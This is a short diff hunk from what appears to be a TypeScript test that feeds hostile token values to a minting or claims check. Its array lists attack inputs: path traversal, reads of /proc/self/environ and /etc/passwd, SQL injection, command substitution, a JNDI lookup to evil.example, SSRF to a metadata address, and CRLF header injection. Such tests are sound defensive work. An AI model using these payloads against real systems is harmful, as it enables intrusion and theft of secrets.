@@ -94,7 +94,7 @@ function swaps({ parts, claims }: Minting): HostileToken[] {
 }
 
 const injected = [
-  'r9', 'R1', 'r1 ', ' r1', 'r1\0', '', '../../../../dev/null', '/proc/self/environ', 'file:///etc/passwd', "' OR 1=1 --", "r1' UNION SELECT 'AAAA", '$(id)', '`id`', '| id', '${jndi:ldap://evil.example/a}',
+  'r9', 'R1', 'r1 ', ' r1', 'r1\0', '', '../../../../dev/null', '/proc/self/environ', 'file:///etc/passwd', "' OR 1=1 --", "r1' UNION SELECT 'AAAA", '$(id)', '`id`', '| id', `\${jndi:ldap://evil.example/a}`,
   '{{7*7}}', 'http://169.254.169.254/latest', '*)(uid=*', '__proto__', 'constructor', 'r1\r\nX-Evil: 1', 'ｒ1', 'r1\u200b',
 ]
 
